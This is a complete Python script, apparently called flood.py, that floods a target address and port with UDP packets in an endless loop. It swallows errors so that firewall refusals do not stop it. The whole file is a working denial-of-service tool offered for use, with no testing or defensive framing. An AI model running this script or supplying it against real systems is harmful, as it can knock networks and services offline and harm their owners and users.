"""UDP to ADDRESS PORT as fast as it goes; what the firewall refuses is tried again. Usage: flood.py ADDRESS PORT"""
import socket, sys

s = socket.socket(socket.AF_INET6 if ':' in sys.argv[1] else socket.AF_INET, socket.SOCK_DGRAM)
s.connect((sys.argv[1], int(sys.argv[2])))
send = s.send
while True:
    try:
        while True:
            send(b'x')
    except OSError:
        pass
